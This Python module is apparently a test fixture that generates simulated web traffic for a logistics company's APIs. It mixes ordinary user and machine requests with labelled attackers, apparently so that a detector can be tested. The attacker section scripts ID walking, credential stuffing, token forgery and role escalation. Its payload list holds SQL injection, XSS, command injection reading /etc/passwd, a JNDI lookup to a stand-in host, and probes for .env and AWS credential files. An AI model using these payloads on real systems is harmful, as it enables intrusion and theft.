"""The plan of the lab: what each of its users does over the simulated days, and what the labelled attackers do."""

from datetime import datetime, timedelta
from itertools import count
from random import Random
from typing import Any, Final

from tests.lab import tokens
from tests.lab.estate import DOMAIN, GATEWAY
from tests.lab.serving import KEYS
from tests.lab.traffic import DAYS, FIRST_DAY, Plan, Shot, client_of, day

BROWSERS: Final = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
)
PHONE: Final = "HarbourlineApp/5.2 (iOS 17.5)"
OFFICE: Final = "203.0.113.10"
PARTNER, YARD, WATCH, SOAP = "192.0.2.20", "192.0.2.30", "192.0.2.2", "192.0.2.40"
KEY_OF: Final = {who: key for key, who in KEYS.items()}
PASSWORD: Final = "correct horse"
HOUR: Final = 3600
USERS: Final = [f"c-{number}" for number in range(1000, 1060)]
SOAP_BODY: Final = (
    '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
    "<booking>B{}</booking></s:Body></s:Envelope>"
)


def api(slug: str, host: str = GATEWAY) -> str:
    """Return host and path of an API."""
    return f"{host}/{slug}"


class Script:
    """Collects requests; `chance` is the seed's."""

    def __init__(self, seed: int) -> None:
        self.chance = Random(seed)
        self.shots: list[Shot] = []
        self.clients: set[str] = set()

    def add(self, at: datetime, who: tuple[str, str], base: str, request: str, **more: Any) -> None:
        """Add one request, `METHOD /path`, from an address with a program."""
        method, _, target = request.partition(" ")
        self.shots.append(Shot(at, *who, base, method, target, **more))

    def bearer(self, subject: str, at: datetime, *, ago: float = 60) -> dict[str, str]:
        """Return the header of somebody signed in a while ago."""
        return {"Authorization": f"Bearer {tokens.made(subject, issued=at.timestamp() - ago)}"}


def plan(seed: int) -> Plan:
    """Return all that happens, by the seed."""
    script = Script(seed)
    users = list(USERS)
    script.chance.shuffle(users)
    walkers, honest = users[:2], sorted(users[2:])
    addresses = [f"198.51.100.{number}" for number in range(1, 201)]
    script.chance.shuffle(addresses)
    taken = iter(addresses)
    for number in range(DAYS):
        office_day(script, number, honest[:24])
        machines(script, number)
    homes = {user: (next(taken), script.chance.choice((*BROWSERS, PHONE, PHONE))) for user in honest[24:]}
    for user, who in homes.items():
        for number in range(DAYS):
            if script.chance.random() < 0.8:
                session(script, user, who, day(number, script.chance.uniform(6, 22) * HOUR))
    visitors(script, [next(taken) for _ in range(70)])
    benign = {
        OFFICE, PARTNER, YARD, WATCH, SOAP, *map(client_of, honest), *map(client_of, KEYS.values()),
        *(shot.address for shot in script.shots),
    }  # fmt: skip
    attackers = attacks(script, walkers, [next(taken) for _ in range(12)])
    script.shots.sort(key=lambda shot: shot.at)
    return Plan(tuple(script.shots), attackers, tuple(sorted(benign)))


def office_day(script: Script, number: int, users: list[str]) -> None:
    """Let the office work: many people behind one address, most of them signing in around the same time."""
    if (FIRST_DAY + timedelta(days=number)).weekday() >= 5:
        users = users[:3]
    for place, user in enumerate(users):
        who = (OFFICE, BROWSERS[place % len(BROWSERS)])
        session(script, user, who, day(number, script.chance.uniform(7.8, 9.5) * HOUR))
        session(script, user, who, day(number, script.chance.uniform(12.5, 17) * HOUR), login=False)


def session(script: Script, user: str, who: tuple[str, str], at: datetime, *, login: bool = True) -> None:
    """Sign in, sometimes after a slip, and look at one's own things; a phone sends again what took too long."""
    chance = script.chance
    if login:
        for _ in range(chance.choice((0, 0, 0, 0, 1, 1, 2))):
            wrong = {"username": user, "password": "wrong horse"}
            script.add(at, who, api("accounts"), "POST /v1/login", body=wrong)
            at += timedelta(seconds=chance.uniform(4, 12))
        script.add(at, who, api("accounts"), "POST /v1/login", body={"username": user, "password": PASSWORD})
        at += timedelta(seconds=1)
    orders = [number for number in range(5000, 5400) if number % 60 == index_of(user)]
    wishes = [
        ("orders", "GET /v1/orders"), ("customers", "GET /v1/customers/me"), ("accounts", "GET /v1/me"),
        ("customers", "GET /v1/addresses"), ("notifications", "GET /v1/templates"),
        *(("orders", f"GET /v1/orders/{chance.choice(orders)}") for _ in range(3)),
        ("orders", f"GET /v2/orders/{chance.choice(orders)}"),
        ("payments", f"GET /v1/payments/p-{index_of(user) + 60}"), ("payments", f"GET /v1/payments/p-{index_of(user)}"),
    ]  # fmt: skip
    late = chance.random() < 0.04
    headers = script.bearer(user, at, ago=9 * HOUR if late else 60)
    for slug, request in chance.sample(wishes, chance.randint(4, 8)):
        again = chance.randint(2, 3) if who[1] == PHONE and chance.random() < 0.15 else 1
        for _ in range(again):
            script.add(at, who, api(slug), request, headers=headers)
            at += timedelta(seconds=chance.uniform(1, 4))
        at += timedelta(seconds=chance.uniform(5, 40))
    if late:
        headers = script.bearer(user, at)
        script.add(at, who, api("accounts"), "POST /v1/login", body={"username": user, "password": PASSWORD})
        at += timedelta(seconds=2)
    rarely(script, user, who, at, headers)


def index_of(user: str) -> int:
    """Return the number of somebody's first payment."""
    return int(user[2:]) - 1000


def rarely(script: Script, user: str, who: tuple[str, str], at: datetime, headers: dict[str, str]) -> None:
    """Do what people do now and then: order, pay, ask for money back, change something, look at an invoice."""
    chance = script.chance
    acts: tuple[tuple[str, str, str, Any], ...] = (
        (GATEWAY, "orders", "POST /v1/orders", {"weight_kg": 40}),
        (GATEWAY, "payments", "POST /v1/payments", {"amount": 40}),
        (GATEWAY, "payments", "POST /v1/refunds", {"payment": "p-7"}),
        (GATEWAY, "customers", "PATCH /v1/customers/me", {"name": "A new name"}),
        (GATEWAY, "notifications", "POST /v1/messages", {"text": "hello"}),
        (GATEWAY, "notifications", "POST /v1/push", {"text": "hello"}),
        (GATEWAY, "accounts", "POST /v1/refresh", {}),
        (f"invoices.{DOMAIN}", "invoices", "GET /v1/invoices", None),
        (f"invoices.{DOMAIN}", "invoices", f"GET /v1/invoices/i-{index_of(user)}", None),
        (f"invoices.{DOMAIN}", "invoices", f"GET /v1/invoices/i-{index_of(user)}/document", None),
    )
    for host, slug, request, body in acts:
        if chance.random() < 0.15:
            at += timedelta(seconds=chance.uniform(5, 30))
            script.add(at, who, api(slug, host), request, headers=headers, body=body)


def machines(script: Script, number: int) -> None:
    """Let the machines of a day do what they do every day."""
    batch(script, number)
    yard(script, number)
    watch = (WATCH, "status-page/3")
    script.add(day(number, 10 * HOUR), watch, api("notifications"), "GET /v1/outbox")
    for quarter in range(96):
        for slug in ("payments", "tracking", "fleet", "warehouse"):
            script.add(day(number, quarter * 900), watch, api(slug), "GET /health")


def batch(script: Script, number: int) -> None:
    """Let a partner fetch every lorry and some prices, as it does every night."""
    chance, key = script.chance, {"X-Api-Key": KEY_OF["partner-northway"]}
    at, who = day(number, 2 * HOUR + chance.uniform(0, 300)), (PARTNER, "northway-sync/2.1")
    script.add(at, who, api("fleet"), "GET /v1/vehicles", headers=key)
    for lorry in range(100, 220):
        at += timedelta(seconds=chance.uniform(0.5, 2))
        script.add(at, who, api("fleet"), f"GET /v1/vehicles/l-{lorry}", headers=key)
    if number == 0:
        script.add(at, who, api("fleet"), "GET /v1/depots", headers=key)
    for weight in range(10, 30):
        at += timedelta(seconds=chance.uniform(1, 3))
        script.add(at, who, api("rates"), f"GET /v1/quotes?weight={weight}", headers=key)
        if weight % 3 == 0:
            script.add(at, who, api("rates"), f"GET /v0/quote?weight={weight}", headers=key)
    script.add(at, who, api("rates"), "GET /v1/surcharges", headers=key)
    script.add(at, who, api("rates"), "PUT /v1/surcharges/fuel", headers=key, body={"percent": 14})


def yard(script: Script, number: int) -> None:
    """Let the yard scan what it moves, lorries tell where they are, and a partner of old book by SOAP."""
    chance, key = script.chance, {"X-Api-Key": KEY_OF["yard-scanner"]}
    who, soap = (YARD, "yard-scanner/1.0"), (SOAP, "cargo-soap/0.9")
    booking, partner = api("booking", f"partners.{DOMAIN}"), {"X-Api-Key": KEY_OF["partner-northway"]}
    for step in range(16):
        at = day(number, (6 + step) * HOUR + chance.uniform(0, 900))
        sku = chance.choice(("pallet", "crate", "drum", "strap"))
        script.add(at, who, api("warehouse"), "GET /v1/stock", headers=key)
        script.add(at, who, api("warehouse"), f"GET /v1/stock/{sku}", headers=key)
        script.add(at, who, api("warehouse"), "POST /v1/movements", headers=key, body={"sku": sku})
        for lorry in range(100, 106):
            script.add(at, who, api("fleet"), f"POST /v1/vehicles/l-{lorry}/positions", headers=key, body={})
        body = SOAP_BODY.format(step)
        script.add(at, soap, booking, "POST /soap/booking", headers=partner, type="text/xml", body=body)
    script.add(day(number, 6 * HOUR), soap, booking, "GET /soap/booking/wsdl")


def visitors(script: Script, addresses: list[str]) -> None:
    """Let people without an account look for parcels and at the shop's pages."""
    chance, shop = script.chance, f"shop.{DOMAIN}"
    for number in range(DAYS):
        for address in chance.sample(addresses, 45):
            who, at = (address, chance.choice((*BROWSERS, PHONE))), day(number, chance.uniform(6, 23) * HOUR)
            for _ in range(chance.randint(1, 4)):
                code = chance.randint(7000, 7320)
                script.add(at, who, api("tracking"), f"GET /v1/track/HL{code}")
                at += timedelta(seconds=chance.uniform(3, 60))
            if chance.random() < 0.3:
                script.add(at, who, api("tracking"), "GET /v1/offices?city=Hamburg")
            field = chance.choice(("shipments", "offers"))
            query = {"query": f"query {{ {field} {{ id }} }}"}
            script.add(at, who, api("graph", shop), "POST /graphql", body=query)


def attacks(script: Script, walkers: list[str], addresses: list[str]) -> dict[str, tuple[str, ...]]:
    """Add what the attackers do, and return their clients by label."""
    chance = script.chance
    spare = iter(addresses)
    found = {
        "object walker": (_walk(script, walkers[0], next(spare)),),
        "slow object walker": (_walk_slowly(script, walkers[1], next(spare)),),
        "credential stuffer": (next(spare),),
        "credential stuffers together": tuple(next(spare) for _ in range(5)),
    }
    numbers = count(1)
    (alone,) = found["credential stuffer"]
    _stuff(script, alone, day(2, chance.uniform(1, 22) * HOUR), numbers, tries=60, gap=8)
    start = day(6, chance.uniform(1, 22) * HOUR)
    for address in found["credential stuffers together"]:
        _stuff(script, address, start + timedelta(seconds=chance.uniform(0, 20)), numbers, tries=8, gap=60)
    found["scanner"] = (_scan(script, next(spare)),)
    found["injector"] = (_inject(script, next(spare)),)
    found["intruder"] = (_intrude(script, walkers[0], next(spare)),)
    return found


def _walk(script: Script, user: str, address: str) -> str:
    at = day(3, script.chance.uniform(1, 22) * HOUR)
    headers = script.bearer(user, at)
    for number in range(60):
        script.add(at, (address, BROWSERS[0]), api("orders"), f"GET /v1/orders/{5000 + number}", headers=headers)
        at += timedelta(seconds=script.chance.uniform(4, 8))
    return client_of(user)


def _walk_slowly(script: Script, user: str, address: str) -> str:
    at = day(5, script.chance.uniform(1, 21) * HOUR)
    headers = script.bearer(user, at)
    for number in range(55):
        base = api("invoices", f"invoices.{DOMAIN}")
        script.add(at, (address, BROWSERS[1]), base, f"GET /v1/invoices/i-{number}", headers=headers)
        at += timedelta(seconds=script.chance.uniform(50, 60))
    return client_of(user)


def _stuff(script: Script, address: str, at: datetime, numbers: Any, *, tries: int, gap: float) -> None:
    for _ in range(tries):
        body = {"username": f"c-{2000 + next(numbers)}", "password": "Summer2025"}
        script.add(at, (address, "python-requests/2.32"), api("accounts"), "POST /v1/login", body=body)
        at += timedelta(seconds=script.chance.uniform(gap * 0.7, gap * 1.1))


PAYLOADS: Final = (
    "/v1/offices?city=1%27%20OR%20%271%27=%271", "/v1/offices?city=%3Cscript%3Ealert(1)%3C/script%3E",
    "/v1/offices?city=../../../../etc/passwd", "/v1/offices?city=%24%7Bjndi:ldap://x.example/a%7D",
    "/v1/offices?city=;cat%20/etc/passwd", "/v1/offices?city=1%20UNION%20SELECT%20name%20FROM%20users",
    "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/admin/", "/server-status", "/actuator/env",
    "/backup.sql", "/config.json", "/.aws/credentials", "/api-docs", "/swagger.json", "/v1/users", "/console",
)  # fmt: skip


def _scan(script: Script, address: str) -> str:
    for number, hour in ((1, 3), (4, 15), (8, 11)):
        at = day(number, hour * HOUR + script.chance.uniform(0, 1800))
        for target in PAYLOADS:
            script.add(at, (address, "Mozilla/5.0 (compatible; Nikto/2.5.0)"), api("tracking"), f"GET {target}")
            at += timedelta(seconds=script.chance.uniform(0.2, 1))
    return address


def _inject(script: Script, address: str) -> str:
    at = day(7, script.chance.uniform(1, 22) * HOUR)
    for number in range(12):
        code = f"HL{7000 + number}%27%20OR%20{number}={number}%20--%20"
        script.add(at, (address, BROWSERS[2]), api("tracking"), f"GET /v1/track/{code}")
        at += timedelta(seconds=script.chance.uniform(5, 20))
    return address


def _intrude(script: Script, user: str, address: str) -> str:
    at, who = day(4, script.chance.uniform(1, 22) * HOUR), (address, BROWSERS[0])
    for _ in range(3):
        script.add(at, who, api("customers"), "GET /debug/users")
        forged = {"Authorization": f"Bearer {tokens.unsigned('c-1000')}"}
        script.add(at, who, api("accounts"), "GET /v1/me", headers=forged)
        body = {"name": "x", "role": "administrator"}
        headers = script.bearer(user, at)
        script.add(at, who, api("customers"), "PATCH /v1/customers/me", headers=headers, body=body)
        at += timedelta(seconds=script.chance.uniform(5, 20))
    return address
